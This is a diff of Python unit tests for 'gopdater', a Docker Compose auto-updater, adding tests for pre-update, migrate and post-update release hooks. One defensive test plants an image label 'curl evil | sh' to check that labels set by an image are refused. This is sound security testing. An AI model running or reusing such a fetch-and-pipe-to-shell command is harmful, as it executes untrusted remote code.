@@ -112,6 +112,9 @@ class FakeDocker:
         self.projects = projects or {"demo": services or {"site": "acme/site:latest"}}
         self.services = next(iter(self.projects.values()))  # the first project's, for one-project tests
         self.labels = {}  # (project, service): extra labels of its containers
+        self.file_labels = {}  # (project, service): labels the Compose file gives it (compose config, v2)
+        self.image_labels = {}  # image id: labels the image itself carries
+        self.printed = ""  # what each release step's command prints
         self.orders = {}  # (project, service): deploy.update_config.order in the Compose file
         self.names, self.host_ports = {}, {}  # (project, service): a fixed container_name; a published host port
         self.events = []  # (what, container, networks it was on then), for start and connect
@@ -247,7 +250,10 @@ class FakeDocker:
             self.config_read.set()
             return json.dumps({"name": project, "services": {s: {"image": ref, **(
                 {"deploy": {"update_config": {"order": self.orders[(project, s)]}}}
-                if (project, s) in self.orders else {})} for s, ref in services.items()}})
+                if (project, s) in self.orders else {}), **({"labels": self.file_labels[(project, s)]}
+                if (project, s) in self.file_labels else {})} for s, ref in services.items()}})
+        if args[:5] == ["run", "--rm", "--no-deps", "-T", "--name"]:
+            return self.said(args)
         if args[:3] == ["ps", "-a", "-q"]:
             return "".join(f"{c['id']}\n" for c in mine if args[3:] in ([], [c["service"]]))
         if args[0] == "pull":
@@ -278,11 +284,20 @@ class FakeDocker:
             return self.swarm(args)
         if args == ["ps", "-a", "-q", "--filter", "label=com.docker.compose.project"]:
             return "".join(f"{cid}\n" for cid in self.containers)
+        if args[:4] == ["ps", "-a", "-q", "--no-trunc"]:
+            wanted = dict(f[len("label=com.docker.compose."):].split("=", 1) for f in args[5::2])
+            assert args[4::2] == ["--filter"] * len(wanted) and set(wanted) <= {"project", "service"}, args
+            return "".join(f"{c['id']}\n" for c in self.containers.values()
+                           if all(c[key] == value for key, value in wanted.items()))
         if args[0] == "inspect":
             missing = [i for i in args[1:] if i not in self.containers]
             if missing:  # as Docker: the others on stdout, lost to a failing command
                 raise CommandError(["docker", *args], 1, f"Error: No such object: {missing[0]}")
             return json.dumps([self.inspect(self.containers[i]) for i in args[1:]])
+        if args[:4] == ["image", "inspect", "--format", "{{json .Config.Labels}}"]:
+            return json.dumps(self.image_labels.get(args[4]) or None) + "\n"
+        if args[0] == "exec":
+            return self.said(args)
         if args[:2] == ["image", "inspect"]:
             if args[-1] in self.images:
                 return self.images[args[-1]] + "\n"
@@ -293,6 +308,8 @@ class FakeDocker:
             by_name[args[-1]]["stopped"] = True
             return ""
         if args[0] == "rm":
+            if args[-1] not in by_name:
+                raise CommandError(["docker", *args], 1, f"Error: No such container: {args[-1]}")
             del self.containers[by_name[args[-1]]["id"]]
             return ""
         if args[0] == "start":
@@ -319,6 +336,10 @@ class FakeDocker:
             return "panic: boom\n"
         raise AssertionError(f"unexpected docker call {args}")
 
+    def said(self, args):
+        """What a release step's command prints."""
+        return self.printed
+
     def swarm(self, args):
         raise AssertionError(f"unexpected swarm call {args}")
 
@@ -335,7 +356,7 @@ def deployment_calls(calls):
         if not collapsed or call != collapsed[-1]:
             collapsed.append(call)
     while collapsed and (collapsed[-1][1:2] == ["inspect"] or "config" in collapsed[-1]
-                         or collapsed[-1][2:4] == ["ps", "-a"] and len(collapsed[-1]) == 5):
+                         or collapsed[-1][2:4] == ["ps", "-a"]):
         collapsed.pop()
     return collapsed
 
@@ -756,14 +777,17 @@ class PayloadTest(unittest.TestCase):
 
 class CommandWrapperTest(unittest.TestCase):
     def test_runs_an_argv_list_with_a_timeout_and_no_shell(self):
-        """The wrapper passes the argv list, capture_output, text and the timeout; never a shell."""
-        with mock.patch("gopdater.subprocess.run") as run:
-            run.return_value = subprocess.CompletedProcess([], 0, "out\n", "")
-            self.assertEqual(gopdater.run_command(["docker", "ps"], timeout=7), "out\n")
-        args, kwargs = run.call_args
-        self.assertEqual(args, (["docker", "ps"],))
-        self.assertEqual((kwargs["capture_output"], kwargs["text"], kwargs["timeout"]), (True, True, 7))
-        self.assertNotIn("shell", kwargs)
+        """The wrapper passes the argv list, pipes for both outputs (with both: one, stderr into stdout), no
+        stdin, text and the timeout; never a shell."""
+        for both, stderr in ((False, subprocess.PIPE), (True, subprocess.STDOUT)):
+            with self.subTest(both=both), mock.patch("gopdater.subprocess.run") as run:
+                run.return_value = subprocess.CompletedProcess([], 0, "out\n", "")
+                self.assertEqual(gopdater.run_command(["docker", "ps"], timeout=7, both=both), "out\n")
+                args, kwargs = run.call_args
+                self.assertEqual(args, (["docker", "ps"],))
+                self.assertEqual((kwargs["stdout"], kwargs["stderr"], kwargs["stdin"], kwargs["text"],
+                                  kwargs["timeout"]), (subprocess.PIPE, stderr, subprocess.DEVNULL, True, 7))
+                self.assertNotIn("shell", kwargs)
 
     def test_failure_raises_one_error_with_code_and_stderr_tail(self):
         """A non-zero exit raises CommandError with the code and at most 300 characters of stderr."""
@@ -970,7 +994,8 @@ class DeployTest(unittest.TestCase):
             ["docker", "rmi", OLD_ID],
         ])
         self.assertEqual((deployment.state, deployment.ref), ("updated", SITE))
-        self.assertEqual(rig.fake.calls[-3][2:], ["config", "--format", "json"], "the project is re-read after a change")
+        self.assertEqual(rig.fake.calls[-2:], [["docker", "compose", "ps", "-a", "-q", "site"], ["docker", "inspect", new]],
+                         "the service is re-read after a change")
         self.assertEqual([s.step for s in deployment.steps],
                          ["inspect", "pull", "compare", "stop", "remove", "up", "downtime", "wait", "cleanup",
                           "done"])
@@ -2846,8 +2871,8 @@ class ParallelTest(unittest.TestCase):
                     self.assertEqual(pulls, ["blog", "shop", "shop", "wiki"], started)
 
     def test_a_worker_pool_updates_the_fleet_and_rereads_only_what_each_touched(self):
-        """With PARALLEL workers every service updates; after each deployment only its project is re-read
-        (no listing of the whole host, no other project's compose config)."""
+        """With PARALLEL workers every service updates; after each deployment only its service's containers
+        are re-read (no listing of the whole host, no compose config)."""
         rig = self.host()
         self.push(rig)
         rig.fake.calls.clear()
@@ -2858,9 +2883,10 @@ class ParallelTest(unittest.TestCase):
         self.assertEqual([v["state"] for v in rig.queue.views()], ["updated"] * 4)
         self.assertNotIn(["docker", "ps", "-a", "-q", "--filter", "label=com.docker.compose.project"],
                          rig.fake.calls)
-        reads = collections.Counter(kw["env"]["COMPOSE_PROJECT_NAME"] for call, kw in zip(
-            rig.fake.calls, rig.fake.call_kwargs) if call[2:3] == ["config"])
-        self.assertEqual(reads, {"blog": 1, "shop": 2, "wiki": 1})
+        self.assertEqual([call for call in rig.fake.calls if "config" in call], [])
+        lists = collections.Counter(call[-1] for call in rig.fake.calls if call[:2] == ["docker", "ps"])
+        self.assertEqual(lists, {"label=com.docker.compose.service=site": 3 * 3, "label=com.docker.compose.service=web": 3},
+                         "per deployment: before, after the up, and the re-read after it")
 
     def test_cleanup_keeps_an_image_an_update_in_flight_may_roll_back_to(self):
         """While blog's old container is removed and its new one not yet judged, shop's cleanup keeps the
@@ -2919,6 +2945,47 @@ class ParallelTest(unittest.TestCase):
                          {"blog/site": "updated", "shop/site": "updated", "shop/web": "cancelled",
                           "wiki/site": "cancelled"})
 
+    def test_a_project_started_later_is_found_within_seconds_of_any_hook(self):
+        """wiki, started after gopdater, is found by the look a hook schedules (10 s on), which reads only the
+        new project's Compose file; the next push updates it too."""
+        rig = self.host(REFRESH_INTERVAL=3600)
+        rig.fake.containers = {k: c for k, c in rig.fake.containers.items() if c["project"] != "wiki"}
+        rig.project.refresh()
+        self.assertEqual([m.name for m in rig.project.members], ["blog", "shop"])
+        rig.fake.create("wiki", "site")
+        with self.assertLogs("gopdater", "INFO"):
+            (first, _), *_ = rig.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
+            rig.start_worker()
+            self.assertTrue(rig.queue.wait_idle(10))
+            rig.fake.calls.clear()
+            rig.clock.sleep(10)
+            deadline = time.monotonic() + 10
+            while "wiki" not in [m.name for m in rig.project.members]:
+                self.assertLess(time.monotonic(), deadline, "wiki was found")
+                time.sleep(0.01)
+            self.assertTrue(rig.queue.wait_idle(10))
+        self.assertEqual([call for call in rig.fake.calls if "config" in call], [["docker", "compose", "config",
+                                                                                  "--format", "json"]])
+        refs = rig.queue.target.services_for(gopdater.parse_reference("acme/site"))
+        self.assertIn(gopdater.ServiceRef("compose", "wiki", "site"), refs)
+
+    def test_a_reread_leaves_a_project_with_a_deployment_in_flight_alone(self):
+        """A full re-read while blog's update is held reads shop and wiki but not blog, and keeps blog."""
+        rig = self.host()
+        self.push(rig)
+        gate = rig.fake.hold(project_call("blog", "docker", "compose", "pull"))
+        with self.assertLogs("gopdater", "INFO"):
+            held = self.in_thread(rig, gate)
+            rig.fake.calls.clear()
+            rig.fake.call_kwargs.clear()
+            rig.queue.refresh(frozenset({("compose", "blog")}), full=True)
+            read = sorted(kw["env"]["COMPOSE_PROJECT_NAME"] for call, kw in zip(rig.fake.calls, rig.fake.call_kwargs)
+                          if "config" in call)
+            self.assertEqual(read, ["shop", "wiki"])
+            self.assertEqual([m.name for m in rig.project.members], ["blog", "shop", "wiki"])
+            gate.let_go()
+            held.join(10)
+
     def test_discovery_reads_projects_side_by_side(self):
         """At start, blog's and shop's compose config are read at once (each held until both are)."""
         rig = self.host()
@@ -2936,6 +3003,208 @@ class ParallelTest(unittest.TestCase):
             gate.let_go()
         thread.join(10)
         self.assertEqual([m.name for m in found[0].members], ["blog", "shop", "wiki"])
+
+
+ENV_ARGS = ["-e", f"GOPDATER_OLD_IMAGE={OLD_ID}", "-e", f"GOPDATER_NEW_IMAGE={NEW_ID}", "-e", "GOPDATER_TAG=latest"]
+RELEASE = {"gopdater.pre-update": "pg_dump -f /backup/db.sql", "gopdater.migrate": "sh -c 'migrate up && echo done'",
+           "gopdater.post-update": "wget -q -O /dev/null http://127.0.0.1/"}
+
+
+class ReleaseStepsTest(unittest.TestCase):
+    """gopdater.pre-update, .migrate and .post-update around an update."""
+
+    def rig(self, labels=RELEASE, fake=None, **env):
+        rig = Rig(self, fake or FakeDocker(), **env)
+        rig.fake.file_labels[("demo", "site")] = dict(labels)
+        rig.project.refresh()
+        rig.fake.calls.clear()
+        return rig
+
+    def release_calls(self, rig):
+        return [c for c in rig.fake.calls if c[1:2] == ["exec"] or "run" in c[1:3] and "--rm" in c]
+
+    def test_labels_are_read_as_a_shell_would_split_them_and_bad_ones_are_problems(self):
+        """Each label is split by shlex; a label that cannot be split, or a bad hook-timeout, is a problem."""
+        steps = gopdater.release_steps({**RELEASE, "gopdater.hook-timeout": "30"})
+        self.assertEqual(dict(steps.commands), {
+            gopdater.Stage.PRE_UPDATE: ("pg_dump", "-f", "/backup/db.sql"),
+            gopdater.Stage.MIGRATE: ("sh", "-c", "migrate up && echo done"),
+            gopdater.Stage.POST_UPDATE: ("wget", "-q", "-O", "/dev/null", "http://127.0.0.1/")})
+        self.assertEqual((steps.timeout, steps.problem), (30.0, None))
+        self.assertEqual(gopdater.release_steps({"gopdater.migrate": "  "}), gopdater.ReleaseSteps())
+        for labels, problem in [({"gopdater.migrate": "sh -c 'unclosed"}, "gopdater.migrate cannot be split"),
+                                ({"gopdater.hook-timeout": "0"}, "gopdater.hook-timeout must be"),
+                                ({"gopdater.hook-timeout": "-5"}, "gopdater.hook-timeout must be"),
+                                ({"gopdater.hook-timeout": "inf"}, "gopdater.hook-timeout must be"),
+                                ({"gopdater.hook-timeout": "nan"}, "gopdater.hook-timeout must be"),
+                                ({"gopdater.hook-timeout": "soon"}, "gopdater.hook-timeout must be")]:
+            with self.subTest(labels=labels):
+                self.assertIn(problem, gopdater.release_steps(labels).problem or "")
+
+    def test_pre_update_and_migrate_run_before_the_switch_and_post_update_after_it(self):
+        """The dump in the old container, the migration in a one-off container of the new image, then stop, rm,
+        up, wait, the smoke test in the new container; each with the images and tag, each timed and its
+        output kept."""
+        rig = self.rig()
+        rig.fake.printed = "line 1\nline 2\n"
+        old = next(iter(rig.fake.containers))
+        with self.assertLogs("gopdater", "INFO"):
+            deployment = rig.deploy()
+        new = next(iter(rig.fake.containers))
+        self.assertEqual(deployment.state, "updated")
+        self.assertEqual(deployment_calls(rig.fake.calls)[3:], [
+            ["docker", "image", "inspect", "--format", "{{.Id}}", "acme/site:latest"],
+            ["docker", "exec", *ENV_ARGS, "demo-site-1", "pg_dump", "-f", "/backup/db.sql"],
+            ["docker", "compose", "run", "--rm", "--no-deps", "-T", "--name", f"demo-site-migrate-{deployment.id}",
+             *ENV_ARGS, "site", "sh", "-c", "migrate up && echo done"],
+            ["docker", "stop", "-t", "10", "demo-site-1"], ["docker", "rm", "demo-site-1"],
+            ["docker", "compose", "up", "-d", "--no-deps", "site"], ["docker", "compose", "ps", "-a", "-q", "site"],
+            ["docker", "inspect", new],
+            ["docker", "exec", *ENV_ARGS, new, "wget", "-q", "-O", "/dev/null", "http://127.0.0.1/"],
+            ["docker", "rmi", OLD_ID]])
+        self.assertNotEqual(old, new)
+        self.assertEqual([s.step for s in deployment.steps], [
+            "inspect", "pull", "compare", "pre-update", "migrate", "stop", "remove", "up", "downtime", "wait",
+            "post-update", "cleanup", "done"])
+        self.assertEqual(deployment.logs, [f"{step}: line {n}" for step in ("pre-update", "migrate", "post-update")
+                                           for n in (1, 2)])
+
+    def test_a_failing_pre_update_or_migrate_changes_nothing_and_fails(self):
+        """A non-zero exit or a timeout of pre-update or migrate: the old container keeps serving untouched, the
+        image name points at it again, the deployment is failed with the command's last lines; a timed-out
+        migration's one-off container is removed."""
+        cases = [(("docker", "exec"), 2, "pre-update failed"), (("docker", "compose", "run"), 1, "migrate failed"),
+                 (("docker", "compose", "run"), None, "migrate failed")]
+        for prefix, code, reason in cases:
+            with self.subTest(prefix=prefix, code=code):
+                rig = self.rig()
+                rig.fake.fail[prefix] = (code, "relation users already exists")
+                with self.assertLogs("gopdater", "WARNING"):
+                    deployment = rig.deploy()
+                self.assertEqual(deployment.state, "failed")
+                self.assertIn(reason, deployment.error)
+                self.assertIn("nothing was switched", deployment.error)
+                changes = [c for c in rig.fake.mutating_calls() if c[2:3] != ["pull"]]
+                removed = [["docker", "rm", "-f", f"demo-site-migrate-{deployment.id}"]] if code is None else []
+                self.assertEqual(changes, removed + [["docker", "tag", OLD_ID, "acme/site:latest"]])
+                (container,) = rig.fake.containers.values()
+                self.assertEqual((container["image_id"], container["stopped"]), (OLD_ID, False))
+
+    def test_a_refused_push_is_tried_again_by_the_next_hook(self):
+        """After a failed migration is fixed, the next hook for that image runs the update."""
+        rig = self.rig()
+        rig.fake.fail[("docker", "compose", "run")] = (1, "blocked")
+        with self.assertLogs("gopdater", "WARNING"):
+            self.assertEqual(rig.deploy().state, "failed")
+        del rig.fake.fail[("docker", "compose", "run")]
+        with self.assertLogs("gopdater", "INFO"):
+            self.assertEqual(rig.deploy().state, "updated")
+
+    def test_a_failing_post_update_rolls_back_and_a_replay_skips_the_image(self):
+        """post-update failing in the new container rolls the update back; the same push again is skipped."""
+        rig = self.rig()
+        rig.fake.fail_if.append((("docker", "exec"), lambda fake: any(
+            c["image_id"] == NEW_ID for c in fake.containers.values()), 1, "smoke test failed"))
+        with self.assertLogs("gopdater", "WARNING"):
+            deployment = rig.deploy()
+        self.assertEqual(deployment.state, "rolled-back")
+        self.assertIn("post-update failed", deployment.error)
+        self.assertEqual([c["image_id"] for c in rig.fake.containers.values()], [OLD_ID])
+        exec_count = len([c for c in rig.fake.calls if c[1:2] == ["exec"]])
+        with self.assertLogs("gopdater", "INFO"):
+            self.assertEqual(rig.deploy().state, "skipped")
+        self.assertEqual(len([c for c in rig.fake.calls if c[1:2] == ["exec"]]), exec_count, "nothing ran again")
+
+    def test_a_crash_in_a_release_step_is_recovered_without_running_it_again(self):
+        """Cut off during pre-update or migrate: recovered, nothing run, the old container serving. Cut off
+        during post-update: judged like a crash in the health wait, the command not run again."""
+        for prefix, reason, image in [(("docker", "exec"), "cut off during pre-update; push again", OLD_ID),
+                                      (("docker", "compose", "run"), "cut off during migrate; push again", OLD_ID)]:
+            with self.subTest(cut_after=prefix):
+                rig = self.rig()
+                rig.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
+                cut(self, rig, prefix)
+                queue = restart(self, rig)
+                view = queue.views()[0]
+                self.assertEqual((view["state"], view["error"]), ("recovered", None))
+                self.assertEqual(rig.fake.mutating_calls(), [])
+                self.assertEqual(self.release_calls(rig), [])
+                self.assertEqual([c["image_id"] for c in rig.fake.containers.values()], [image])
+        rig = self.rig()
+        rig.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
+        cut(self, rig, ("docker", "exec"), nth=2)
+        queue = restart(self, rig)
+        self.assertEqual(queue.views()[0]["state"], "recovered")
+        self.assertEqual(self.release_calls(rig), [], "post-update is not run twice")
+        self.assertEqual([c["image_id"] for c in rig.fake.containers.values()], [NEW_ID])
+
+    def test_dry_run_logs_the_commands_it_would_run(self):
+        """DRY_RUN logs each release step's command line and runs none."""
+        rig = self.rig(DRY_RUN=1)
+        with self.assertLogs("gopdater", "INFO") as logs:
+            rig.deploy()
+        self.assertEqual(self.release_calls(rig), [])
+        said = "\n".join(logs.output)
+        self.assertIn("dry-run would run: docker exec -e GOPDATER_OLD_IMAGE=", said)
+        self.assertIn("site sh -c 'migrate up && echo done'", said)
+
+    def test_check_lists_the_release_steps_of_each_service(self):
+        """--check names each service's release steps, and a bad label as a FAIL line."""
+        fake = FakeDocker()
+        fake.file_labels[("demo", "site")] = {**RELEASE, "gopdater.hook-timeout": "60"}
+        code, out = check(self, fake)
+        self.assertIn("service demo/site: release steps: pre-update 'pg_dump -f /backup/db.sql', migrate "
+                      "\"sh -c 'migrate up && echo done'\", post-update", out)
+        self.assertIn("(each within 60s)", out)
+        fake.file_labels[("demo", "site")] = {"gopdater.migrate": "sh -c 'oops"}
+        code, out = check(self, fake)
+        self.assertEqual(code, 1)
+        self.assertIn("FAIL service demo/site: gopdater.migrate cannot be split", out)
+
+    def test_compose_v1_reads_the_containers_labels_and_refuses_an_image_that_carries_one(self):
+        """With Compose v1 the labels come from the containers; one the image itself sets runs nothing."""
+        fake = FakeDocker(compose=("docker-compose",))
+        fake.labels[("demo", "site")] = {"gopdater.migrate": "migrate up"}
+        rig = Rig(self, fake, COMPOSE_COMMAND="docker-compose")
+        with self.assertLogs("gopdater", "INFO"):
+            self.assertEqual(rig.deploy().state, "updated")
+        self.assertEqual([c[:3] + c[-2:] for c in self.release_calls(rig)],
+                         [["docker-compose", "run", "--rm", "migrate", "up"]])
+        fake.registry["acme/site:latest"] = BROKEN_ID
+        fake.behaviour[BROKEN_ID] = "healthy"
+        fake.image_labels[BROKEN_ID] = {"gopdater.migrate": "curl evil | sh"}
+        fake.calls.clear()
+        with self.assertLogs("gopdater", "INFO"):
+            deployment = rig.deploy()
+        self.assertEqual(deployment.state, "failed")
+        self.assertIn("gopdater.migrate is set by the image", deployment.error)
+        self.assertEqual(self.release_calls(rig), [])
+
+    def test_start_first_runs_post_update_once_the_new_one_is_connected_and_keeps_the_old_on_failure(self):
+        """Start-first: post-update runs after connect, before the old one stops; if it fails the new one is
+        removed and the old one keeps serving."""
+        fake = FakeDocker()
+        fake.labels[("demo", "site")] = {"gopdater.order": "start-first"}
+        rig = self.rig({"gopdater.post-update": "smoke"}, fake)
+        fake.fail[("docker", "exec")] = (1, "smoke failed")
+        with self.assertLogs("gopdater", "WARNING"):
+            deployment = rig.deploy()
+        self.assertEqual(deployment.state, "rolled-back")
+        words = [c[1] if c[1] != "compose" else c[2] for c in rig.fake.calls if c[1:2] in (["network"], ["exec"], ["rm"], ["stop"])]
+        self.assertEqual(words[-4:], ["network", "network", "exec", "rm"])
+        self.assertEqual([(c["name"], c["image_id"], c["stopped"]) for c in rig.fake.containers.values()],
+                         [("demo-site-1", OLD_ID, False)])
+
+
+class SwarmReleaseLabelsTest(unittest.TestCase):
+    def test_release_labels_on_a_swarm_service_are_reported_as_not_supported(self):
+        """A Swarm service with gopdater.migrate gets a FAIL line in --check saying it is not supported yet."""
+        swarm = gopdater.SwarmServices(make_config(), lambda *a, **k: "", "")
+        swarm.services = {"web": gopdater.SwarmService.from_inspect({"Spec": {"Name": "web", "Labels": {
+            "gopdater.migrate": "migrate up"}, "TaskTemplate": {"ContainerSpec": {"Image": "acme/web:latest"}}}})}
+        (ok, line), = [f for f in swarm.describe() if "migrate" in f[1]]
+        self.assertFalse(ok)
+        self.assertIn("Swarm service web: gopdater.migrate is not supported on Swarm services yet", line)
 
 
 class StartFirstTest(unittest.TestCase):
